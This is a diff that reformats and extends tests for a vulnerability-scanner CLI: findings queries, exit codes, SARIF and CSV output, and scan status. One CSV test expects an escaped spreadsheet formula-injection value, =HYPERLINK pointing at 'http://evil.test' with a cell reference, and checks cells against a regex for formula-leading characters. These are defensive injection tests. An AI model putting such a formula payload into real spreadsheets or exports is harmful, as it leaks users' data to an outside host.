@@ -52,7 +52,13 @@ describe('findings', () => {
     expect(out).toContain('CVE-2026-0001  Critical');
     const found = (await rig.ok('findings', `team/app@${digest}`, '--severity', 'High')) as Record<string, never>[];
     expect(found).toMatchObject([
-      { vulnerability: 'CVE-2026-0001', severity: 'Critical', component: { name: 'django', version: '3.2.1' }, fix: { version: '3.2.13' }, image: digest },
+      {
+        vulnerability: 'CVE-2026-0001',
+        severity: 'Critical',
+        component: { name: 'django', version: '3.2.1' },
+        fix: { version: '3.2.13' },
+        image: digest,
+      },
     ]);
     expect(await rig.ok('findings', 'team/app:v1', '--vulnerability', 'pysec-2026-1')).toHaveLength(1);
     for (const output of ['yaml', 'tsv']) {
@@ -62,13 +68,22 @@ describe('findings', () => {
 
   test('end a pipeline where there is one too many', async () => {
     expect((await rig.run(['findings', 'team/app:v1', '--fail-on', 'Critical'])).code).toBe(1);
-    expect((await rig.run(['findings', 'team/app:v1', '--vulnerability', 'CVE-1', '--fail-on', 'Critical'])).code).toBe(0);
+    expect((await rig.run(['findings', 'team/app:v1', '--vulnerability', 'CVE-1', '--fail-on', 'Critical'])).code).toBe(
+      0,
+    );
   });
 
   test('hostile metadata does nothing to a terminal, whatever the form', async () => {
     const all = (await rig.ok('findings', 'team/app:v1')) as { component: { name: string } }[];
     expect(all.map(({ component }) => component.name)).toContain(hostile.name);
-    for (const more of [[], ['-o', 'json'], ['-o', 'yaml'], ['-o', 'tsv'], ['--format', 'csv'], ['--format', 'sarif']]) {
+    for (const more of [
+      [],
+      ['-o', 'json'],
+      ['-o', 'yaml'],
+      ['-o', 'tsv'],
+      ['--format', 'csv'],
+      ['--format', 'sarif'],
+    ]) {
       const { out } = await rig.run(['findings', 'team/app:v1', ...more], { terminal: true });
       expect(out).toContain('HYPERLINK');
       expect([more, isTame(out)]).toEqual([more, true]);
@@ -83,7 +98,8 @@ describe('findings', () => {
     expect(lines[0]).toStartWith('"vulnerability","severity"');
     expect(lines).toHaveLength(3);
     expect(out).toContain(`"'=HYPERLINK(""http://evil.test?""&A1)"`);
-    for (const line of lines) for (const cell of line.slice(1, -1).split('","')) expect(cell).not.toMatch(/^\s*[=+\-@|%]/);
+    for (const line of lines)
+      for (const cell of line.slice(1, -1).split('","')) expect(cell).not.toMatch(/^\s*[=+\-@|%]/);
   });
 
   test('hostile metadata is nothing in SARIF but text: no scheme, no other place, no second line', async () => {
@@ -91,8 +107,23 @@ describe('findings', () => {
     const sarif = JSON.parse(out) as {
       version: string;
       runs: {
-        tool: { driver: { rules: { id: string; helpUri?: string; shortDescription: { text: string }; properties: Record<string, unknown> }[] } };
-        results: { ruleId: string; ruleIndex: number; level: string; message: { text: string }; locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }[];
+        tool: {
+          driver: {
+            rules: {
+              id: string;
+              helpUri?: string;
+              shortDescription: { text: string };
+              properties: Record<string, unknown>;
+            }[];
+          };
+        };
+        results: {
+          ruleId: string;
+          ruleIndex: number;
+          level: string;
+          message: { text: string };
+          locations: { physicalLocation: { artifactLocation: { uri: string } } }[];
+        }[];
       }[];
     };
     const [run] = sarif.runs;
@@ -141,11 +172,22 @@ test('scans are shown, asked for and listed; an index says what it consists of',
     { digest, tags: ['v1'], state: 'Done', status: 'complete', summary: { critical: 1 } },
   ]);
   expect(await rig.ok('scan', 'list', '--repository', 'team/app', '--state', 'Failed')).toEqual([]);
-  const { size } = (await rig.server.app.storage.db.first<{ size: number }>('SELECT size FROM manifests WHERE digest = ?', [digest]))!;
+  expect(await rig.ok('scan', 'status')).toMatchObject({ queued: 0, failed: 0, sbomRepositories: [] });
+  expect(await rig.ok('scan', 'update', '--sbom-repository', 'prod/*', '!prod/a')).toMatchObject({
+    sbomRepositories: ['prod/*', '!prod/a'],
+  });
+  expect(await rig.ok('scan', 'update', '--sbom-repository', 'none')).toMatchObject({ sbomRepositories: [] });
+  const { size } = (await rig.server.app.storage.db.first<{ size: number }>(
+    'SELECT size FROM manifests WHERE digest = ?',
+    [digest],
+  ))!;
   const mediaType = 'application/vnd.oci.image.manifest.v1+json';
   const index = JSON.stringify({ schemaVersion: 2, mediaType: ociIndex, manifests: [{ mediaType, digest, size }] });
   expect((await putManifest(url, 'team/app', 'all', index, ociIndex)).status).toBe(201);
-  expect(await rig.ok('scan', 'show', 'team/app:all')).toMatchObject({ state: 'NotScannable', children: [{ digest, state: 'Done' }] });
+  expect(await rig.ok('scan', 'show', 'team/app:all')).toMatchObject({
+    state: 'NotScannable',
+    children: [{ digest, state: 'Done' }],
+  });
   expect(await rig.ok('findings', 'team/app:all')).toHaveLength(2);
   expect((await rig.refused('sbom', 'team/app:all'))[1]).toContain('it is an index');
   expect((await rig.refused('scan', 'show', 'team/app:none'))[0]).toBeGreaterThan(0);
